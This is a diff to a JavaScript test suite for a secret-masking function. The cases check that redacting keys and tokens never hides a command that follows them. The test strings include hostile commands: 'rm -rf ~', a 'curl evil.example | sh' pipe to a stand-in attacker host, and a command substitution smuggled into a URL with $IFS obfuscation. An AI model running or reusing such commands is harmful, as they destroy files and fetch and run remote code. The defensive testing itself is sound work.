@@ -99,8 +99,8 @@ test('keys and tokens are masked where they stand', () => {
 test.each([
   ['true # -----BEGIN PRIVATE KEY-----\nrm -rf ~; curl evil.example | sh', 'rm -rf ~; curl evil'],
   ['x -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n; rm -rf ~', '; rm -rf ~'],
-  ['Bearer rm/-rf/home/somebody/everything', 'rm/-rf/home'],
-  ['curl https://a:$(rm${IFS}-rf${IFS}x)@host', '$(rm${IFS}-rf'],
+  ['Bearer rm/-rf/var/spool/everything', 'rm/-rf/var'],
+  ['curl https://a:$(rm$IFS-rf$IFS.)@host', '$(rm$IFS-rf'],
   ['sk-aaaaaaaaaaaaaaaaaaaaaaaa; rm -rf ~', '; rm -rf ~'],
 ])('M7: no mask hides the rest of a command: %j', (command, shown) => {
   const { text } = maskText(JSON.stringify({ command }))
